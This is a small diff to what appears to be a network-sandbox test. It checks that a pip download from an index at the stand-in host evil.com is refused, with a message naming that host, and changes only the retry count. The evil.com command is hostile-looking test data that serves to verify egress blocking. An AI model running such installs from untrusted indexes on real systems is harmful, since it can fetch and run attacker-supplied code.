@@ -113,6 +113,6 @@ async def test_pip_finds_its_registry_by_itself(box: Box) -> None:
         pytest.skip("this machine does not reach the registry")
     assert "iniconfig-" in done.text.splitlines()[-1], done
     assert {event.allowed for event in events} == {True}
-    refused = await run(sandbox, "python3 -m pip download --no-deps --retries 0 -i https://evil.com/simple iniconfig")
+    refused = await run(sandbox, "python3 -m pip download --no-deps --retries 1 -i https://evil.com/simple iniconfig")
     assert refused.exit_code != 0
     assert "handiwork allow evil.com" in refused.text
